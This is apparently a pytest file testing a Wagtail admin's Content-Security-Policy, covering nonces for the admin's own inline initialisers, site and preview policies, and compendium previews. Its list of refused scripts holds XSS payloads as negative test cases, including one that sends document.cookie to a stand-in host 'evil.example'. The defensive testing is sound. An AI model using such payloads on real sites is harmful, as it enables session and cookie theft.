"""The admin's script policy: a nonce for Wagtail's own inline initialisers, and nothing else."""

from __future__ import annotations

import re

import pytest

from portal.admin_csp import add_nonces, is_wagtail_initialiser

ALLOWED = [
    'new PageChooser("id_page", {"modelNames": ["wagtailcore.page"], "canChooseRoot": false});',
    'new SnippetChooser("id_week", {"modalUrl": "/admin/snippets/choose/events/conferenceweek/"});',
    'initDateChooser("id_start_date", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
    'initDateTimeChooser("id_go_live_at", {"dayOfWeekStart": 1});',
    'createTaskChooser("id_task");',
    """(function() {
            var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022: \\u0022id_theme_links\\u0022}"));
        })();""",
]
REFUSED = [
    "alert(document.cookie)",
    'new PageChooser("id_page", fetch("/steal"));',  # arguments that are not JSON data
    'new Image().src = "https://evil.example/?" + document.cookie;',
    'initDateChooser("id", {});alert(1);',
    'new Function("alert(1)")();',
    '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
]


@pytest.mark.parametrize("body", ALLOWED)
def test_wagtail_initialisers_get_the_nonce(body):
    assert is_wagtail_initialiser(body)
    assert add_nonces(f"<p>x</p><script>{body}</script>", "N0nce") == f'<p>x</p><script nonce="N0nce">{body}</script>'


@pytest.mark.parametrize("body", REFUSED)
def test_anything_else_inline_gets_no_nonce(body):
    assert not is_wagtail_initialiser(body)
    html = f"<script>{body}</script>"
    assert add_nonces(html, "N0nce") == html


@pytest.mark.django_db
def test_admin_pages_carry_the_nonce_in_header_and_scripts_with_a_right_length(client):
    from tests.factories import UserFactory

    client.force_login(UserFactory(role="superuser"))
    response = client.get("/admin/snippets/events/event/add/")
    assert response.status_code == 200
    policy = response["Content-Security-Policy"]
    nonce = re.search(r"script-src 'self' 'nonce-([^']+)'", policy).group(1)
    body = response.content.decode()
    assert f'<script nonce="{nonce}">initDateChooser(' in body
    assert "<script>initDateChooser(" not in body
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert int(response["Content-Length"]) == len(response.content)  # the body grew by the nonces


@pytest.mark.django_db
def test_the_site_policy_has_no_nonce_and_no_inline_allowance(client):
    policy = client.get("/en/")["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
    assert directives["script-src"] == "'self'" and directives["style-src"] == "'self'"  # in any order
    assert "nonce-" not in policy and "unsafe-inline" not in policy


def test_wagtail_localizes_select_all_script_is_recognised_as_rendered():
    """Read from wagtail-localize's own template, so an upgrade that changes it fails here."""
    from pathlib import Path

    import wagtail_localize

    template = Path(wagtail_localize.__file__).parent / "templates/wagtail_localize/admin/submit_translation.html"
    body = re.search(r'<script type="text/javascript">(.*?)</script>', template.read_text(), re.S).group(1)
    assert is_wagtail_initialiser(body)
    html = f'<script type="text/javascript">{body}</script>'
    assert add_nonces(html, "N0nce") == f'<script nonce="N0nce">{body}</script>'


def test_a_preview_gets_the_admins_policy_not_the_one_its_page_carried():
    """Wagtail renders a preview by running the page's URL through the middleware, so the
    preview comes back with the site's ``frame-ancestors 'none'``; the preview panel's frame
    would be refused. The admin's answer carries the admin's policy."""
    from django.http import HttpResponse
    from django.test import RequestFactory

    from portal.middleware import PortalCSPMiddleware

    def preview(request):
        response = HttpResponse("<h1>Preview</h1>")
        response["Content-Security-Policy"] = "default-src 'self'; frame-ancestors 'none'"
        return response

    request = RequestFactory().get("/admin/pages/7/edit/preview/?in_preview_panel=true")
    policy = PortalCSPMiddleware(preview)(request)["Content-Security-Policy"]
    assert "frame-ancestors 'self'" in policy and "frame-ancestors 'none'" not in policy
    site = PortalCSPMiddleware(preview)(RequestFactory().get("/en/"))["Content-Security-Policy"]
    assert site == "default-src 'self'; frame-ancestors 'none'"  # the site's answers are left alone


@pytest.mark.django_db
def test_a_compendium_previews_from_its_unsaved_entries(rf):
    """A preview's entries are modelcluster's in-memory rows (which cannot sort by country)."""
    from django.db.models import QuerySet

    from portal.pages.models import CompendiumPage

    page = CompendiumPage.objects.get(slug="gender-inclusivity-in-policing")
    draft = page.save_revision().as_object()
    entries = list(draft.entries.all())
    assert len(entries) > 1 and not isinstance(draft.entries.all(), QuerySet)
    request = rf.get(page.url)
    response = draft.make_preview_request(original_request=request)
    assert response.status_code == 200
    body = response.content.decode()
    assert all(str(entry.country.name) in body for entry in entries)
